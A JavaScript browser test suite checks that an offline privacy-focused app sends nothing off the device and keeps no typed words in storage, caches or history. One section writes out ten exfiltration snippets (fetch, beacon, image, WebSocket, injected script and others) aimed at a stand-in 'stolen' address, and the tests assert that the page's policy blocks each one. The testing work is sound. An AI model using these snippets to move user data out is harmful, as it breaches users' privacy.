// Nothing leaves the device, proved from outside: by what the server was asked, by what the browser refuses, and by looking
// for typed words in every place where a browser could keep them. That the engine cannot reach out: tests/wasm/size.test.mjs.

import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { assertSays, findOut, heading, ownWords, pack, statement, toRecord, trapping } from './browser.mjs'
import { device, isReady, keptOn, tab, useBrowserThatKeeps } from './offline.mjs'
import { keptFiles, stoppable } from './server.mjs'

useBrowserThatKeeps()

const CONCERN = pack.items.find((item) => item.level === '4').id

async function server(t) {
  const one = await stoppable()
  t.after(() => one.stop())
  return one
}

const press = (page, name) => page.getByRole('button', { name }).first().click()

/** All that a practitioner does with one case. */
async function wholeJourney(page) {
  await findOut(page, { concerns: [CONCERN] })
  await assertSays(page, statement(CONCERN).text)
  await page.emulateMedia({ media: 'print' })
  await page.evaluate(() => dispatchEvent(new Event('beforeprint')))
  await page.evaluate(() => dispatchEvent(new Event('afterprint')))
  await page.emulateMedia({ media: 'screen' })
  await toRecord(page)
  await press(page, /copy/i)
  await press(page, 'About this copy')
  await heading(page, /about/i)
  await page.goBack()
  await heading(page, /record/i)
}

describe('what the server was asked', () => {
  test('before and after “ready”: known files alone, with nothing behind their names, and nothing sent', async (t) => {
    const at = await server(t)
    const page = await keptOn(t, at, { permissions: ['clipboard-read', 'clipboard-write'] })
    await page.waitForLoadState('networkidle')
    const known = new Set(['/', '/sw.js', ...(await keptFiles()).map((file) => `/${file}`)])
    for (const { method, url, body } of at.log) {
      assert.ok(known.has(url), `${method} ${url}`)
      assert.equal(method, 'GET')
      assert.equal(body, '')
    }
    assert.ok(at.log.length > 10)
    at.log.length = 0
    const before = page.watched.requests.length
    await wholeJourney(page)
    await press(page, /start again/i)
    await heading(page, /where/i)
    await findOut(page, { area: 'Leicester', concerns: [] })
    await page.getByRole('link', { name: /hide/i }).click()
    await page.waitForURL('**/plain.html')
    await page.getByRole('link', { name: 'Home' }).click()
    await isReady(page)
    // The start page is looked at anew at each start, for the name of a school's contacts.
    assert.deepEqual(at.log.map(({ url }) => url).filter((url) => url !== '/sw.js' && url !== '/index.html'), [])
    for (const request of page.watched.requests.slice(before)) {
      assert.equal(new URL(request.url()).origin, at.origin)
      assert.equal(request.postData(), null)
    }
  })

  test('an engine that stops tells nobody', async (t) => {
    const at = await server(t)
    const page = await keptOn(t, at, { script: trapping('checker_check', 1000) })
    await page.waitForLoadState('networkidle')
    at.log.length = 0
    await findOut(page, { concerns: [CONCERN], arrives: false })
    await page.getByRole('button', { name: /try again/i }).waitFor()
    assert.deepEqual(at.log.map(({ url }) => url).filter((url) => url !== '/sw.js'), [])
  })
})

describe('ten ways out of the page', () => {
  const AWAY = 'http://127.0.0.1:9/stolen'
  const tried = (start) => `new Promise((resolve) => {
    const away = ${JSON.stringify(AWAY)}
    const own = new URL('stolen', location.href).href
    addEventListener('securitypolicyviolation', (event) => resolve('refused: ' + event.effectiveDirective))
    try {
      const made = (() => { ${start} })()
      if (made?.catch) made.catch(() => undefined)
    } catch (error) {
      resolve('refused: ' + error.name)
    }
    setTimeout(() => resolve('went out'), 3000)
  })`
  /** How it is tried, and what refuses it. */
  const ways = {
    'a fetch': ['return fetch(away)', 'connect-src'],
    'a beacon': ['navigator.sendBeacon(away, "x")', 'connect-src'],
    'an image': ['new Image().src = away', 'img-src'],
    'a link fetched ahead': ['const link = document.createElement("link"); link.rel = "prefetch"; link.href = away; document.head.append(link)', 'default-src'],
    'a form': ['const form = document.createElement("form"); form.action = own; form.method = "post"; document.body.append(form); form.submit()', 'form-action'],
    'a socket': ['new WebSocket("ws://127.0.0.1:9/stolen")', 'connect-src'],
    'a frame': ['const frame = document.createElement("iframe"); frame.src = own; document.body.append(frame)', 'frame-src'],
    'a worker': ['new Worker(own)', /TypeError|require-trusted-types-for|worker-src/],
    'a script': ['const script = document.createElement("script"); script.setAttribute("src", own); document.body.append(script)', /TypeError|require-trusted-types-for|script-src/],
    'markup made of an answer': ['document.body.innerHTML = "<img src=" + own + ">"', /TypeError|require-trusted-types-for/],
  }
  for (const [way, [start, by]] of Object.entries(ways)) {
    test(`${way} is refused`, async (t) => {
      const at = await server(t)
      const page = await tab(await device(t, { serviceWorkers: 'block' }), at)
      await heading(page, /where/i)
      const outcome = await page.evaluate(tried(start))
      if (by instanceof RegExp) assert.match(outcome, by)
      else assert.equal(outcome, `refused: ${by}`)
      assert.ok(!at.log.some(({ url }) => url.includes('stolen')), 'the server was asked')
    })
  }

  test('no address is built from an answer: every link on the way is the document’s own or the page’s', async (t) => {
    const page = await keptOn(t, await server(t))
    const links = new Set()
    const note = async () => {
      for (const href of await page.locator('a').evaluateAll((all) => all.map((one) => one.getAttribute('href')))) links.add(href)
    }
    await findOut(page, { age: 11, concerns: [CONCERN], visit: note })
    const bare = (text) => text.replace(/[\s()-]|\\"|\/(?=["/]|$)/g, '')
    const printed = bare(JSON.stringify(pack))
    for (const href of links) {
      if (/^(#[\w-]*|tel:(999|112|18000)|(\.\/)?plain\.html|(\.\/)?read\/[\w./-]*)$/.test(href)) continue
      const [, scheme, rest] = /^(tel|mailto|https):(.*)$/s.exec(href) ?? []
      assert.ok(scheme, `${href} is none of tel:, mailto: and https:`)
      const shown = await page.locator('body').evaluate((body) => body.textContent)
      assert.ok(printed.includes(bare(rest)) || bare(shown).includes(bare(rest)), `${href} is not printed`)
    }
    assert.ok(links.size > 5)
  })
})

describe('typed words are found nowhere afterwards', () => {
  const CANARY = 'qzxv wombat canary'
  const AGE = '11'

  /** Every place where this browser could have kept something for this origin, as one text each. */
  const everywhere = (page) => page.evaluate(async () => {
    const places = {
      address: location.href,
      state: JSON.stringify(history.state),
      title: document.title,
      name: window.name,
      cookies: document.cookie,
      local: JSON.stringify({ ...localStorage }),
      session: JSON.stringify({ ...sessionStorage }),
      databases: JSON.stringify(await indexedDB.databases()),
      timings: JSON.stringify(performance.getEntries()),
      caches: '',
    }
    for (const name of await caches.keys()) {
      const cache = await caches.open(name)
      for (const request of await cache.keys()) {
        const kept = await cache.match(request)
        places.caches += `${name} ${request.url} ${[...kept.headers].join()} ${await kept.text()}`
      }
    }
    return places
  })

  test('not in an address, the history, a title, a cookie, any storage or any cache, nor at the server', async (t) => {
    const at = await server(t)
    const page = await keptOn(t, at)
    const addresses = []
    page.on('framenavigated', () => addresses.push(page.url()))
    await findOut(page, {
      age: Number(AGE),
      concerns: [CONCERN],
      visit: async (screen) => {
        if (screen === 'concerns') await ownWords(page).fill(CANARY)
        if (screen === 'ticked') await ownWords(page).fill(CANARY)
        addresses.push(page.url())
      },
    })
    await toRecord(page)
    const boxes = page.locator('#screen textarea:not([readonly])')
    for (const box of await boxes.all()) await box.fill(CANARY)
    addresses.push(page.url())
    const places = await everywhere(page)
    assert.ok(places.caches.includes('assets/'), 'the caches were read')
    for (const [place, text] of Object.entries(places)) {
      assert.ok(!/qzxv|wombat/i.test(text), place)
      if (place !== 'caches') assert.ok(!text.includes(CONCERN), `${place}: ${text}`)
    }
    assert.deepEqual(JSON.parse(places.session), {})
    assert.deepEqual(Object.values(JSON.parse(places.local)).filter((value) => value !== pack.area), [])
    assert.equal(places.cookies, '')
    assert.equal(places.databases, '[]')
    assert.ok(places.state.length < 100, places.state)
    for (const address of addresses) assert.equal(address, at.address)
    assert.ok(!/qzxv|wombat/i.test(JSON.stringify(at.log)))
    // The whole history of the tab: nothing is written into the addresses gone through.
    const session = await page.context().newCDPSession(page)
    const { entries } = await session.send('Page.getNavigationHistory')
    assert.deepEqual(new Set(entries.map(({ url }) => url).filter((url) => url !== 'about:blank')), new Set([at.address]))
    // The test would see it: the same look finds what is put there.
    await page.evaluate((canary) => sessionStorage.setItem('x', canary), CANARY)
    assert.ok((await everywhere(page)).session.includes(CANARY))
  })
})
